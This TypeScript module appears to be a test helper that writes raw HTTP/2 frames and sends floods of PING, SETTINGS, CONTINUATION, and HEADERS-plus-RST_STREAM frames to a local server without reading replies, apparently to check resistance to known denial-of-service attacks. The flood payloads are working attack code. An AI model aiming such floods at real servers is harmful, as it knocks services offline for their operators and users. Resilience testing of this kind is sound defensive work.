import { connect, type Socket } from "node:net";

export const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
export const SETTINGS = frame(4, 0, 0, Buffer.alloc(0));
/** GET and http from the static table, and a literal :authority. */
export const REQUEST = Buffer.from([0x82, 0x86, 0x84, 0x41, 2, 0x76, 0x78]);
export const END_STREAM = 1;
export const END_HEADERS = 4;

export function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** The frames of each round, by name. */
export const FLOODS: Readonly<Record<string, (round: number) => Buffer>> = {
  PING: () => Buffer.concat(Array(1_000).fill(frame(6, 0, 0, Buffer.alloc(8)))),
  SETTINGS: () => Buffer.concat(Array(1_000).fill(frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])))),
  CONTINUATION: (round) =>
    round === 0
      ? frame(1, END_STREAM, 1, REQUEST)
      : Buffer.concat(Array(100).fill(frame(9, 0, 1, Buffer.from([0, 1, 0x61, 1, 0x62])))),
  "HEADERS and RST_STREAM": (round) =>
    Buffer.concat(
      Array.from({ length: 500 }, (_, i) => {
        const stream = (round * 500 + i) * 2 + 1;
        return Buffer.concat([
          frame(1, END_HEADERS | END_STREAM, stream, REQUEST),
          frame(3, 0, stream, Buffer.from([0, 0, 0, 8])),
        ]);
      }),
    ),
};

/**
 * Sends data without reading, until `maxBytes` are sent or the server closes the connection.
 * Resolves to the number of bytes sent.
 */
export async function flood(
  url: string,
  next: (round: number) => Buffer,
  maxBytes: number,
  first = Buffer.concat([PREFACE, SETTINGS]),
): Promise<number> {
  const socket: Socket = connect(Number(new URL(url).port), "127.0.0.1");
  const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
  socket.on("error", () => undefined);
  if (first.length > 0) socket.write(first);
  let sent = 0;
  for (let round = 0; !socket.destroyed && sent < maxBytes; round++) {
    const bytes = next(round);
    sent += bytes.length;
    const isTaken = socket.write(bytes);
    if (!isTaken) {
      const drained = new Promise<void>((resolve) => socket.once("drain", () => resolve()));
      await Promise.race([drained, closed]);
    }
  }
  socket.resume();
  if (sent < maxBytes) await closed;
  socket.destroy();
  return sent;
}
